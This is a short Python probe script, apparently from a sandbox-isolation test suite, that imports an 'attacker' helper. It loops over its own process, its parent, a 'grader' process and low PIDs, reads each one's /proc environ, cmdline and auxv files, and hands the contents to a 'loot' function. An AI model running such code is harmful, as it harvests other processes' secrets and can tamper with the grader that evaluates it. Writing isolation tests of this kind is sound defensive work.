"""Reads the environment and the command line of every process."""
# Succeeds where open: memory of others

import os

from attacker import PLACES, attempt, loot

for pid in ["self", os.getppid(), PLACES["grader"], *PLACES["warm"], *range(1, 50)]:
    for name in ("environ", "cmdline", "auxv"):
        loot(attempt(lambda: open(f"/proc/{pid}/{name}").read()))  # noqa: B023
